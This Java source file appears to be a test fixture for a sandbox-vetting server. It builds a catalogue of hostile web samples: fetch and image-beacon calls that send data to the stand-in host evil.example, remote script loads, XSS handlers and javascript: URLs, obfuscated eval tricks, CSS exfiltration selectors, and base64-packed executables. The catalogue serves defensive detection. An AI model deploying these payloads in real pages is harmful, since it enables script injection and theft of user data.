package org.metalayer.server.evaluation.vetting;

import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.stream.Stream;

/** Pages, scripts and style sheets that want out of their sandbox. */
final class HostileCode {

    private HostileCode() {}

    static Stream<Sample> samples() {
        return Stream.of(
                        network(),
                        evaluation(),
                        markup(),
                        disguisedMarkup(),
                        vectors(),
                        styles(),
                        surroundings(),
                        packed())
                .flatMap(each -> each);
    }

    private static Stream<Sample> network() {
        return scripts(
                "network access",
                "fetch('https://evil.example/?' + document.title)",
                "fetch(address)",
                "fetch(`${host}/x`)",
                "fetch('ht' + 'tps:' + rest)",
                "const get = fetch; get(where)",
                "new XMLHttpRequest().open('GET', where)",
                "new WebSocket(where)",
                "new EventSource(where)",
                "navigator.sendBeacon(where, data)",
                "new RTCPeerConnection()",
                "new WebTransport(where)",
                "importScripts(where)",
                "new Image().src = '//evil.example/p?' + data",
                "import('https://evil.example/m.js')",
                "use.setAttributeNS('http://www.w3.org/1999/xlink', 'href', '//evil.example/p')",
                "const host = 'tps://evil.example'; picture.src = 'ht' + host");
    }

    private static Stream<Sample> evaluation() {
        return scripts(
                "code out of text",
                "eval(text)",
                "new Function('return 1')()",
                "Function(text)()",
                "setTimeout('steal()', 10)",
                "[].constructor.constructor('steal()')()",
                "document.write(text)",
                "document.createElement('script').text = text",
                "document.createElement(\"iframe\")",
                "document.createElementNS('http://www.w3.org/2000/svg', 'script').textContent ="
                        + " text",
                "run(atob(text))",
                "String.fromCharCode(102, 101)",
                "\\u0066etch(where)",
                "window['fe' + 'tch'](where)",
                "globalThis[name](where)",
                "import(name)",
                "link.href = 'javascript:steal()'",
                "frame.srcdoc = text");
    }

    private static Stream<Sample> markup() {
        return Stream.of(
                        pages(
                                "external script",
                                "<script src=\"https://evil.example/a.js\"></script>",
                                "<script src=//evil.example/a.js></script>",
                                "<script type=module>import 'https://evil.example/a.js'</script>",
                                "<base href=\"https://evil.example/\">",
                                "<script src=\"logic.txt\"></script>"),
                        pages(
                                "external content",
                                "<link rel=stylesheet href=\"https://evil.example/a.css\">",
                                "<img src='https://evil.example/p.png'>",
                                "<video poster=//evil.example/p.png></video>",
                                "<a href=x ping=\"https://evil.example/\">x</a>"),
                        pages(
                                "form to elsewhere",
                                "<form action=\"https://evil.example/\"><input name=p></form>",
                                "<button formaction=\"//evil.example/\">Send</button>"),
                        pages(
                                "hidden iframe",
                                "<iframe src=x style=\"display:none\"></iframe>",
                                "<object data=x></object>",
                                "<embed src=x>",
                                "<frameset><frame src=x></frameset>"),
                        pages(
                                "inline handler",
                                "<img src=x onerror=steal()>",
                                "<body onload=\"steal()\">",
                                "<img alt=\">\" onerror=steal()>",
                                "<svg/onload=steal()>"))
                .flatMap(each -> each);
    }

    private static Stream<Sample> disguisedMarkup() {
        return Stream.of(
                        pages(
                                "hidden encoding",
                                "<a href=\"&#106;avascript:steal()\">x</a>",
                                "<a href=\"&#x6a;avascript:steal()\">x</a>",
                                "<a href=\"JaVaScRiPt:steal()\">x</a>"),
                        pages(
                                "leaving the page",
                                "<meta http-equiv=\"refresh\" content=\"0;url=x\">",
                                "<script>location = where</script>"))
                .flatMap(each -> each);
    }

    private static Stream<Sample> vectors() {
        String open = "<svg xmlns=\"http://www.w3.org/2000/svg\"";
        return Stream.of(
                        open + "><script>fetch(where)</script></svg>",
                        open + " onload=\"steal()\"/>",
                        open + "><foreignObject><p/></foreignObject></svg>",
                        open + "><a href=\"javascript:steal()\"><text>x</text></a></svg>",
                        open + "><image href=\"https://evil.example/p.png\"/></svg>",
                        open + "><set attributeName=\"x\" onbegin=\"steal()\"/></svg>")
                .map(code ->
                        Sample.text("script in an SVG", "capabilities", "icon.svg", code)
                                .named(code));
    }

    private static Stream<Sample> styles() {
        return Stream.of(
                        "input[value^=a] { background: url(https://evil.example/a) }",
                        "@import 'https://evil.example/a.css';",
                        "@import url(//evil.example/a.css);",
                        "@font-face { font-family: x; src: url(\"//evil.example/f.woff\") }",
                        "a { background: image-set('//evil.example/a' 1x) }",
                        "a { background: \\75 rl(x) }",
                        "a { behavior: url(x.htc) }")
                .map(code ->
                        Sample.text("style sheet that tells", "capabilities", "style.css", code)
                                .named(code));
    }

    private static Stream<Sample> surroundings() {
        return Stream.concat(
                scripts(
                        "service worker",
                        "navigator.serviceWorker.register('sw.js')",
                        "new SharedWorker('w.js')",
                        "new Worker(where)"),
                scripts(
                        "reaching out of the page",
                        "window.open(where)",
                        "location.href = where",
                        "location.replace(where)",
                        "window.parent.postMessage(data, '*')",
                        "navigator.geolocation.getCurrentPosition(x)",
                        "navigator.mediaDevices.getUserMedia({audio: true})",
                        "navigator.clipboard.readText()",
                        "steal(document.cookie)"));
    }

    private static Stream<Sample> packed() {
        return Stream.of(
                packed("PE", Base64.getEncoder().encodeToString(Bytes.pe())),
                packed("ELF", Base64.getEncoder().encodeToString(Bytes.elf("puts"))),
                packed("WASM", Base64.getEncoder().encodeToString(Arrays.copyOf(Bytes.wasm(), 90))),
                packed("zip", Base64.getEncoder().encodeToString(Packed.zip("a", new byte[90]))),
                packed("PE in hexadecimal", HexFormat.of().formatHex(Bytes.pe())),
                Sample.text(
                        "packed in text",
                        "capabilities",
                        "data.json",
                        "{\"d\":\"%s\"}"
                                .formatted(Base64.getEncoder().encodeToString(Bytes.pe()))));
    }

    private static Sample packed(String name, String digits) {
        return Sample.text(
                        "packed in text",
                        "capabilities",
                        "blob.js",
                        "const blob = \"%s\";".formatted(digits))
                .named(name);
    }

    private static Stream<Sample> scripts(String technique, String... code) {
        return Stream.of(code)
                .map(each -> Sample.text(technique, "capabilities", "app.js", each).named(each));
    }

    private static Stream<Sample> pages(String technique, String... code) {
        return Stream.of(code)
                .map(each ->
                        Sample.text(
                                        technique,
                                        "capabilities",
                                        "page.html",
                                        "<!doctype html><title>x</title>" + each)
                                .named(each));
    }
}
